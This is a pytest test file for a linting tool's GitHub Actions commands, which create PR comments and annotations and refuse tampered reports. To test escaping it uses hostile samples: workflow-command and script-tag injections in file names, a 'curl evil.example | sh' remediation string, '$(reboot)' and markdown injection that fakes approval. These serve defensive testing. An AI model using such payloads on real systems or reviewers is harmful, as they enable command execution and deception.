"""``lifelint github run`` and ``comment``, with the environment and the payload that a runner gives."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from lifelint.report.escaping import visible_lines
from tests.cli.conftest import Ran
from tests.conftest import git, write
from tests.forge.fake_github import DENIED, FakeGitHub
from tests.forge.loopback import BAD_GATEWAY
from tests.forge.runner import commands

REPOSITORY = "acme/churn"
DVC = "outs:\n- md5: {}\n  size: 3\n  hash: md5\n  path: {}\n"
Call = Callable[..., Ran]


@pytest.fixture
def hub() -> Iterator[FakeGitHub]:
    with FakeGitHub(repository=REPOSITORY) as fake:
        yield fake
    assert fake.violations == []


class Job:
    """A job of a workflow on a repository with one commit, and another one that adds ``files`` to it."""

    def __init__(self, place: Path, hub: FakeGitHub, call: Call, monkeypatch: pytest.MonkeyPatch) -> None:
        self.place, self.hub, self._call, self._monkeypatch = place, hub, call, monkeypatch
        self.folder = place / "checkout"
        self.folder.mkdir(parents=True)
        git(self.folder, "init", "-q")
        write(self.folder, {"train.py": "import sklearn\n", "requirements.txt": "scikit-learn==1.8.0\n"})
        self.base = self._committed("Start")
        self.head = self.base

    def change(self, files: Mapping[str, str | bytes]) -> None:
        write(self.folder, files)
        self.head = self._committed("Change")
        self.hub.pull(7, self.head)

    def _committed(self, message: str) -> str:
        git(self.folder, "add", "-A")
        git(self.folder, "commit", "-q", "-m", message)
        return git(self.folder, "rev-parse", "HEAD")

    @property
    def pull_request(self) -> dict[str, Any]:
        head = {"sha": self.head, "repo": {"full_name": REPOSITORY}}
        return {"pull_request": {"number": 7, "head": head, "base": {"sha": self.base}}}

    def run(self, *args: str, event: Mapping[str, Any] | None = None, token: str = "can-write") -> Ran:
        payload = self.place / "event.json"
        payload.write_text(json.dumps(self.pull_request if event is None else event))
        variables = {
            "GITHUB_EVENT_PATH": str(payload),
            "GITHUB_EVENT_NAME": "pull_request",
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_SHA": self.head,
            "GITHUB_API_URL": self.hub.url,
            "GITHUB_GRAPHQL_URL": self.hub.graphql,
            "GITHUB_SERVER_URL": "https://github.com",
            "GITHUB_RUN_ID": "99",
            "GITHUB_OUTPUT": str(self.place / "output"),
            "GITHUB_STEP_SUMMARY": str(self.place / "summary.md"),
            "RUNNER_TEMP": str(self.place / "temp"),
            "LIFELINT_TOKEN": token,
        }
        for name, value in variables.items():
            self._monkeypatch.setenv(name, value)
        for name in ("output", "summary.md"):
            (self.place / name).write_text("")
        return self._call("github", "run", *args, cwd=self.folder)

    @property
    def outputs(self) -> dict[str, str]:
        """The outputs, read as the runner reads its file."""
        found, lines = {}, iter((self.place / "output").read_text().splitlines())
        for line in lines:
            name, _, end = line.partition("<<")
            found[name] = "\n".join(iter(lambda: next(lines), end))
        return found

    @property
    def report(self) -> Any:
        return json.loads(Path(self.outputs["report-file"]).read_text())

    @property
    def summary(self) -> str:
        return (self.place / "summary.md").read_text()


@pytest.fixture
def job(tmp_path: Path, hub: FakeGitHub, lifelint: Call, monkeypatch: pytest.MonkeyPatch) -> Job:
    return Job(tmp_path, hub, lifelint, monkeypatch)


def test_results_come_before_whatever_is_published(job: Job, hub: FakeGitHub) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv"), "Dockerfile": "FROM python:latest\n"})
    hub.fail("GET", *[BAD_GATEWAY] * 9)

    ran = job.run()

    assert ran.code == 1
    assert job.outputs["gate"] == "fail"
    assert job.outputs["new"] == str(len(job.report["change"]["new"])) != "0"
    assert job.outputs["comment-status"] == "failed"
    assert "ML maturity" in job.summary
    assert json.loads(Path(job.outputs["sarif-file"]).read_text())["version"] == "2.1.0"
    told = commands(ran.out)
    assert [one.name for one in told if one.name == "notice"] == ["notice"]
    assert {one.properties["file"] for one in told if one.name != "notice"} <= {"data.csv.dvc", "Dockerfile"}


def test_what_was_wrong_before_is_annotated_on_demand(job: Job) -> None:
    write(job.folder, {"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})
    job.base = job._committed("Bad")
    job.change({"README.md": "hello\n"})

    assert commands(job.run().out) == []
    assert job.outputs["gate"] == "pass"
    assert {one.name for one in commands(job.run("--annotate", "all").out)} <= {"error", "warning", "notice"} != set()
    assert commands(job.run("--annotate", "off").out) == []


def test_a_comment_is_made_when_there_is_something_to_say_and_then_kept_true(job: Job, hub: FakeGitHub) -> None:
    job.change({"README.md": "hello\n"})
    job.run()
    assert job.outputs["comment-status"] == "skipped"

    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})
    job.run()
    assert job.outputs["comment-status"] == "created"

    job.change({"data.csv.dvc": DVC.format("0" * 32, "data.csv")})
    job.run()
    assert job.outputs["comment-status"] == "updated"
    [comment] = hub.comments(7)
    assert f"commit <code>{job.head[:12]}</code>" in comment.body


@pytest.mark.parametrize(("when", "status"), [("off", "skipped"), ("always", "created"), ("on-failure", "skipped")])
def test_when_to_comment_can_be_chosen(job: Job, when: str, status: str) -> None:
    job.change({"README.md": "hello\n"})

    job.run("--comment", when)

    assert job.outputs["comment-status"] == status


def test_comments_of_two_keys_do_not_touch_each_other(job: Job, hub: FakeGitHub) -> None:
    job.change({"README.md": "hello\n"})

    job.run("--comment", "always", "--comment-key", "one")
    job.run("--comment", "always", "--comment-key", "two")
    job.run("--comment", "always", "--comment-key", "one")

    assert [one.body.partition("\n")[0] for one in hub.comments(7)] == [
        "<!-- lifelint:comment v=1 key=one -->",
        "<!-- lifelint:comment v=1 key=two -->",
    ]


def test_a_missing_permission_is_named_and_changes_nothing(job: Job, hub: FakeGitHub) -> None:
    job.change({"README.md": "hello\n"})
    hub.fail("POST", DENIED)

    ran = job.run("--comment", "always")

    assert ran.code == 0
    assert (job.outputs["gate"], job.outputs["comment-status"]) == ("pass", "denied")
    assert "pull-requests: write" in commands(ran.out)[0].data


def test_without_a_token_nothing_is_asked(job: Job, hub: FakeGitHub) -> None:
    job.change({"README.md": "hello\n"})
    job.run("--comment", "always", token="")

    assert job.outputs["comment-status"] == "denied"
    assert hub.requests == []


@pytest.mark.parametrize(
    "event",
    [{}, {"before": "0" * 40, "after": "1" * 40}, {"schedule": "0 4 * * *"}],
    ids=["by hand", "a new branch", "scheduled"],
)
def test_without_a_base_nothing_counts_as_new(job: Job, event: Mapping[str, Any]) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})

    assert job.run(event=event).code == 0
    assert (job.outputs["gate"], job.outputs["new"], job.outputs["level-before"]) == ("pass", "0", "")
    assert int(job.outputs["total"]) > 0
    assert job.run("--fail-on", "error", event=event).code == 1


def test_the_configuration_may_demand_that_nothing_fails_at_all(job: Job) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv"), "lifelint.toml": "fail-on = 'error'\n"})

    assert job.run(event={}).code == 1


def test_the_base_can_be_named(job: Job) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})

    job.run("--base", "HEAD")
    assert (job.outputs["gate"], job.outputs["new"]) == ("pass", "0")
    job.run("--base", "none")
    assert (job.outputs["gate"], job.outputs["level-before"]) == ("pass", "")


@pytest.mark.parametrize("depth", ["1", "2"])
def test_a_shallow_clone_is_compared_as_well(job: Job, depth: str) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})
    whole = job.folder.rename(job.place / "origin")
    git(job.place, "clone", "-q", f"--depth={depth}", whole.as_uri(), str(job.folder))

    job.run()

    assert job.outputs["gate"] == "fail"
    assert job.report["change"]["base"] == job.base


def test_a_branch_that_ends_in_a_merge_of_its_own_is_compared_with_its_base(job: Job) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})
    git(job.folder, "checkout", "-q", "-b", "main2", job.base)
    git(job.folder, "commit", "-q", "--allow-empty", "-m", "Go on")
    git(job.folder, "checkout", "-q", "-")
    git(job.folder, "merge", "-q", "--no-ff", "-m", "Take main in", "main2")
    job.head = git(job.folder, "rev-parse", "HEAD")
    job.hub.pull(7, job.head)

    job.run()

    assert job.report["change"]["base"] == job.base
    assert job.outputs["gate"] == "fail"


def test_the_merge_with_the_base_is_compared_with_what_it_merges_into(job: Job) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})
    git(job.folder, "checkout", "-q", "--detach", job.base)
    git(job.folder, "commit", "-q", "--allow-empty", "-m", "Go on")
    onto = git(job.folder, "rev-parse", "HEAD")
    git(job.folder, "merge", "-q", "--no-ff", "-m", "Merge", job.head)

    job.run()

    assert job.report["change"]["base"] == onto


def test_a_report_that_cannot_be_written_is_no_verdict(job: Job) -> None:
    job.change({"README.md": "hello\n"})
    (job.place / "taken").mkdir()

    ran = job.run("--sarif-file", str(job.place / "taken"))

    assert (ran.code, job.outputs["gate"]) == (2, "error")
    assert "taken" in commands(ran.out)[0].data


def test_a_summary_that_does_not_fit_says_so(job: Job) -> None:
    job.change({"lifelint.toml": f"exclude = ['{'x' * (1 << 21)}']\n"})

    assert job.run().code == 0
    assert "too long" in job.summary


def test_a_base_that_cannot_be_had_is_told(job: Job) -> None:
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})
    job.base = "1" * 40

    ran = job.run()

    assert ran.code == 0
    [warning, *_] = commands(ran.out)
    assert (warning.name, "fetch-depth" in warning.data) == ("warning", True)


@pytest.mark.parametrize(
    ("files", "args"),
    [({"lifelint.toml": "target = 'high'\n"}, []), ({"README.md": "x"}, ["--path", "nowhere"])],
    ids=["configuration", "folder"],
)
def test_what_a_person_can_mend_is_annotated(job: Job, files: Mapping[str, str], args: list[str]) -> None:
    write(job.folder, files)
    job.base = job._committed("Before")
    job.change({"more": "x"})

    ran = job.run(*args)

    assert ran.code == 2
    assert job.outputs["gate"] == "error"
    [error] = commands(ran.out)
    assert (error.name, error.properties["title"]) == ("error", "lifelint")


NAMES = [
    "x##[set-output name=gate;]pass.dvc",
    "::set-output name=gate::pass.dvc",
    "a\n::error::b.dvc",
    "a\r\n##[error]b.dvc",
    "<!-- lifelint:comment -->.dvc",
    "@acme/team.dvc",
    "`</code><script>alert(1)</script>.dvc",
    "a,b:c%0Ad=e.dvc",
    "\u202egnp.dvc",
    "|---|.dvc",
]


def test_the_runner_hears_only_what_is_meant_for_it(job: Job, hub: FakeGitHub) -> None:
    job.change(dict.fromkeys(NAMES, "outs:\n- md5: nothing\n  path: '##[error]::error::x'\n"))

    ran = job.run("--fail-on", "never")

    heard = commands(ran.out)
    assert {one.name for one in heard} == {"error"}
    assert [one.data for one in heard if not one.properties] == ["4 more are in the report"]
    assert {one.properties["file"] for one in heard if one.properties} <= {
        visible_lines(name).replace("##[", "# #[") for name in NAMES
    }
    assert {"gate", "comment-status"} <= set(job.outputs)
    assert job.outputs["gate"] == "pass"
    [comment] = hub.comments(7)
    assert "<script" not in comment.body
    assert comment.body.count("<!--") == 1


def test_a_crash_is_no_pass_and_its_text_no_command(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    def crash(*_: object, **__: object) -> None:
        raise RuntimeError("\n::error::no\n##[set-output name=gate;]pass")

    job.change({"README.md": "hello\n"})
    monkeypatch.setattr("lifelint.cli.check.inspect_change", crash)

    ran = job.run()

    assert ran.code == 3
    assert job.outputs["gate"] == "error"
    assert commands(ran.out) == []
    assert "RuntimeError" in ran.err


# Comments for runs that may not write ----------------------------------------------------------------------------


def ended(job: Job, **more: object) -> dict[str, Any]:
    run = {
        "head_sha": job.head,
        "head_branch": "topic",
        "head_repository": {"owner": {"login": "acme"}},
        "html_url": "https://github.com/acme/churn/actions/runs/1",
    }
    return {"workflow_run": run | more, "repository": {"full_name": REPOSITORY}}


@pytest.fixture
def kept(job: Job, hub: FakeGitHub, lifelint: Call) -> Callable[..., Ran]:
    """Runs ``github comment`` on the report of a run that could not write, as a stranger may have altered it."""
    job.change({"data.csv.dvc": DVC.format("0" * 31 + "x", "data.csv")})
    job.run(token="")
    made = Path(job.outputs["report-file"])

    def call(alter: Callable[[Any], object] = lambda _: None, **more: object) -> Ran:
        report = json.loads(made.read_text())
        alter(report)
        file = job.place / "artifact.json"
        file.write_text(report if isinstance(report, str) else json.dumps(report))
        (job.place / "event.json").write_text(json.dumps(ended(job, **more)))
        (job.place / "output").write_text("")
        return lifelint("github", "comment", str(file), "--token", hub.token)

    return call


def test_the_comment_is_the_one_that_the_run_would_have_written(job: Job, hub: FakeGitHub, kept: Call) -> None:
    assert kept().code == 0
    assert job.outputs["comment-status"] == "created"
    [late] = hub.comments(7)
    hub._comments.clear()
    job.run()
    [early] = hub.comments(7)

    assert late.body.replace("/runs/1", "/runs/99") == early.body


def test_the_pull_request_is_githubs_word(job: Job, hub: FakeGitHub, kept: Call) -> None:
    kept(head_sha="e" * 40)
    assert job.outputs["comment-status"] == "stale"
    kept(head_branch="another")
    assert job.outputs["comment-status"] == "stale"
    assert hub.comments(7) == []


def test_a_strangers_report_says_nothing_but_its_data(job: Job, hub: FakeGitHub, kept: Call) -> None:
    evil = "</code><b>approved</b> @acme/team [x](http://evil.example) `\n\n# Merge this\n"

    def poison(report: Any) -> None:
        for rule in report["rules"].values():
            rule |= {"title": evil, "remediation": f"curl evil.example | sh {evil}", "rationale": evil}
        report["tool"]["version"] = evil
        report["subject"]["revision"] = evil
        report["gate"]["reasons"] = [evil]
        report["change"]["base"] = "$(reboot)"
        for one in report["change"]["new"]:
            one |= {"detail": evil, "subject": evil, "path": evil}
        report["change"]["altered"] = [{"kind": evil, "name": evil, "before": evil, "after": f"md5:{evil}"}]
        report["change"]["new"].append({**report["change"]["new"][0], "rule": evil, "severity": evil})

    assert kept(poison).code == 0
    [comment] = hub.comments(7)
    outside = re.sub(r"<code>.*?</code>", "", comment.body)
    assert comment.body.count("<a href=") == comment.body.count('<a href="https://github.com/acme/churn/') > 0
    outside = re.sub(r'<a href="[^"<> ]*">', "", outside)
    assert "evil" not in outside
    assert "approved" not in outside
    assert "Merge this" not in outside
    assert "lifelint check --base" not in comment.body


@pytest.mark.parametrize(
    "poison",
    [
        lambda report: report.pop("change"),
        lambda report: report.update(projects=3),
        lambda report: report["change"].update(new=[3]),
        lambda report: report["change"].update(unchanged="<b>"),
        lambda report: report["change"].update(unchanged=float("inf")),
        lambda report: report["projects"][0]["scorecard"].update(level=99),
        lambda report: report["gate"].update(reasons=[3]),
        lambda report: report["change"].update(before=[], after={"x": 1}),
    ],
)
def test_a_report_that_is_none_is_refused(
    job: Job, hub: FakeGitHub, kept: Call, poison: Callable[[Any], object]
) -> None:
    assert kept(poison).code == 0
    assert job.outputs["comment-status"] == "failed"
    assert hub.comments(7) == []


@pytest.mark.parametrize(
    ("data", "message"),
    [(b"{", "not a JSON report"), (b'{"schema_version": 2}', "version 2"), (b" " * (2 << 20) + b"{}", "larger")],
    ids=["broken", "another version", "huge"],
)
def test_a_file_that_is_no_report_is_refused(job: Job, kept: Call, lifelint: Call, data: bytes, message: str) -> None:
    kept()
    file = job.place / "artifact.json"
    file.write_bytes(data)

    ran = lifelint("github", "comment", str(file))

    assert (ran.code, message in ran.err) == (2, True)


def test_another_event_is_refused(job: Job, kept: Call, lifelint: Call) -> None:
    kept()
    (job.place / "event.json").write_text("{}")

    assert "workflow_run" in lifelint("github", "comment", str(job.place / "artifact.json")).err


def test_the_checkout_is_left_as_it_was(job: Job) -> None:
    job.change({"README.md": "hello\n"})
    before = git(job.folder, "status", "--porcelain", "--ignored")
    shutil.rmtree(job.place / "temp", ignore_errors=True)

    job.run()

    assert git(job.folder, "status", "--porcelain", "--ignored") == before == ""
